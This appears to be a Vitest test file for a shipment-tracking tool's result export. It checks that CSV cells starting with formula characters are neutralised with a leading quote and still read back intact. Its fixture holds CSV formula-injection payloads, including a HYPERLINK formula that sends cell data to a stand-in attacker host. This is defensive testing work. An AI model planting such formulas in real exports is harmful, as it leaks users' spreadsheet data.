import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvHeader, RESULT_COLUMNS, serialiseRecord, type ResultRecord } from './result-record';
import { readResultRecords } from './results';

function record(overrides: Partial<ResultRecord>): ResultRecord {
  return {
    row: 1,
    order_id: 'A-1',
    tracking_number: '1Z999AA10123456784',
    carrier: 'ups',
    status: 'in_transit',
    substatus: 'moving',
    expected_status: null,
    mismatch: null,
    last_event_at: '2026-03-05T14:02:00+01:00',
    last_event_time_kind: 'instant',
    last_event: 'Departed from facility — Köln, DE',
    eta: null,
    eta_time_kind: null,
    stalled: false,
    late: false,
    error_code: null,
    error_message: null,
    ...overrides,
  };
}

const HOSTILE = {
  order_id: '=HYPERLINK("http://attacker.example/?"&A1,"click")',
  tracking_number: '+1-555-0100',
  last_event: '-2+3 Delivered — @SUM(1,1)',
  error_message: '@SUM(A1:A9)',
  carrier: '\tups',
  eta: '\r=1+1',
} satisfies Partial<ResultRecord>;

describe('CSV output and formula injection (OWASP)', () => {
  it('prefixes a quote to every text cell that starts with =, +, -, @, tab or CR, carrier text included', () => {
    const line = serialiseRecord(record(HOSTILE), 'csv');
    const [cells] = parse(line) as string[][];
    const byColumn = Object.fromEntries(RESULT_COLUMNS.map((column, index) => [column, cells![index]!]));
    for (const [column, value] of Object.entries(HOSTILE)) expect(byColumn[column]).toBe(`'${value}`);
    for (const cell of cells!) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // Values that are not formulas are left alone, numbers and booleans included.
    expect(byColumn.row).toBe('1');
    expect(byColumn.status).toBe('in_transit');
    expect(byColumn.last_event_at).toBe('2026-03-05T14:02:00+01:00');
    expect(byColumn.stalled).toBe('false');
  });

  it('JSONL output is data, not a spreadsheet: values are written as they are', () => {
    expect(JSON.parse(serialiseRecord(record(HOSTILE), 'jsonl'))).toMatchObject(HOSTILE);
  });

  it('readResultRecords gives back the original values, including values that already started with a quote', async () => {
    const directory = mkdtempSync(join(tmpdir(), 'wismo-results-'));
    const path = join(directory, 'results.csv');
    const quoted = record({ row: 2, order_id: "'=already quoted", tracking_number: "'plain", last_event: "''-two quotes" });
    writeFileSync(path, csvHeader() + serialiseRecord(record(HOSTILE), 'csv') + serialiseRecord(quoted, 'csv'));
    const records: ResultRecord[] = [];
    for await (const read of readResultRecords(path)) records.push(read);
    expect(records[0]).toMatchObject(HOSTILE);
    expect(records[1]).toMatchObject({ order_id: "'=already quoted", tracking_number: "'plain", last_event: "''-two quotes" });
  });
});
